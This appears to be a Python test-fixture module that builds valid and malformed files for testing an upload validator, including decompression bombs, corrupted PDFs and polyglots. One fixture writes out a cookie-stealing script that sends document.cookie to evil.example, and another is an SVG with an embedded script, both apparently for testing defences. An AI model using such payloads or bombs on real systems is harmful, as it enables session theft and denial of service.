"""Real files made by the tests: good documents and every kind of bad one."""

from __future__ import annotations

import io
import random
import zipfile

from PIL import Image, ImageDraw
from pypdf import PdfWriter


def photo(width: int = 1200, height: int = 800, *, fmt: str = "JPEG", seed: int = 1) -> bytes:
    """A readable photo-like image: lines and text on a light background."""
    rng = random.Random(seed)
    image = Image.new("RGB", (width, height), (235, 235, 230))
    draw = ImageDraw.Draw(image)
    for _ in range(60):
        start = (rng.randrange(width), rng.randrange(height))
        end = (rng.randrange(width), rng.randrange(height))
        draw.line([start, end], fill=(rng.randrange(200), rng.randrange(200), 90), width=4)
    draw.text((40, 40), f"SPECIMEN {seed}", fill=(0, 0, 0))
    out = io.BytesIO()
    image.save(out, fmt)
    return out.getvalue()


def blank_photo(width: int = 1200, height: int = 800) -> bytes:
    """A photo of nothing: one flat colour."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (250, 250, 250)).save(out, "JPEG")
    return out.getvalue()


def blank_png(width: int = 3000, height: int = 2000) -> bytes:
    """A large PNG of one flat colour (compresses to almost nothing)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (255, 255, 255)).save(out, "PNG")
    return out.getvalue()


def truncated_png() -> bytes:
    """A detailed PNG cut off in the middle of its image data."""
    data = photo(fmt="PNG")
    return data[: len(data) // 2]


def corrupted_png() -> bytes:
    """A detailed PNG with one byte of its image data flipped (its chunk checksum fails)."""
    data = bytearray(photo(fmt="PNG"))
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


def tiny_photo() -> bytes:
    """A photo too small to read."""
    return photo(120, 80)


def truncated_photo() -> bytes:
    """A JPEG cut off after its first third."""
    data = photo()
    return data[: len(data) // 3]


def decompression_bomb() -> bytes:
    """A small PNG that claims a huge image (30000 x 30000 pixels)."""
    out = io.BytesIO()
    Image.new("1", (30000, 30000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def pdf(pages: int = 1) -> bytes:
    """A valid PDF with blank pages."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    """A password-protected PDF."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def broken_pdf() -> bytes:
    """Something that starts like a PDF and is not one."""
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >>\ngarbage garbage\n"


def self_referencing_pdf() -> bytes:
    """A PDF whose page tree lists itself as its own child."""
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
        ]
    )


def windows_executable() -> bytes:
    """The start of a Windows executable (what a renamed .exe looks like)."""
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200


def zip_archive() -> bytes:
    """A ZIP archive (what an archive renamed to .pdf looks like)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("licence.pdf", pdf())
    return out.getvalue()


def _pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF made of these numbered objects (the first is the catalog), with a correct xref."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def zero_page_pdf() -> bytes:
    """A well-formed PDF whose page tree is empty."""
    return _pdf_from_objects(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    )


def many_page_pdf(pages: int) -> bytes:
    """A compact, well-formed PDF with this many tiny blank pages (about 100 bytes a page)."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return _pdf_from_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            *[page] * pages,
        ]
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose header claims a huge image (65000 x 65000 pixels)."""
    data = bytearray(photo(512, 384))
    index = 2
    while data[index + 1] not in (0xC0, 0xC1, 0xC2):  # walk the segments to the frame header
        index += 2 + int.from_bytes(data[index + 2 : index + 4], "big")
    data[index + 5 : index + 9] = (65000).to_bytes(2, "big") * 2
    return bytes(data)


def sliver_photo() -> bytes:
    """A photo wide enough but only 20 pixels high."""
    return photo(6000, 20)


def black_png(width: int = 1200, height: int = 800) -> bytes:
    """A PNG of pure black (a photo taken with the lens covered)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (0, 0, 0)).save(out, "PNG")
    return out.getvalue()


def gif() -> bytes:
    """A readable GIF (not an accepted type)."""
    out = io.BytesIO()
    Image.open(io.BytesIO(photo())).convert("P").save(out, "GIF")
    return out.getvalue()


def webp() -> bytes:
    """A readable WebP photo (not an accepted type)."""
    out = io.BytesIO()
    Image.open(io.BytesIO(photo())).save(out, "WEBP")
    return out.getvalue()


def heic() -> bytes:
    """The start of an HEIC photo, as iPhones take them (not an accepted type)."""
    brand = b"ftypheic" + b"\x00\x00\x00\x00" + b"mif1heic"
    return (len(brand) + 4).to_bytes(4, "big") + brand + b"\x00" * 200


def html_with_script() -> bytes:
    """An HTML page that runs a script."""
    return (
        b"<!DOCTYPE html><html><head><title>ID</title></head>"
        b"<body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"
    )


def svg_with_script() -> bytes:
    """An SVG image that runs a script when opened."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="800" onload="alert(1)">'
        b"<script>alert(document.domain)</script>"
        b'<rect width="1200" height="800" fill="#ccc"/></svg>'
    )


def jpeg_header_zip() -> bytes:
    """A polyglot: the first bytes of a JPEG, then a ZIP archive."""
    return photo()[:20] + zip_archive()
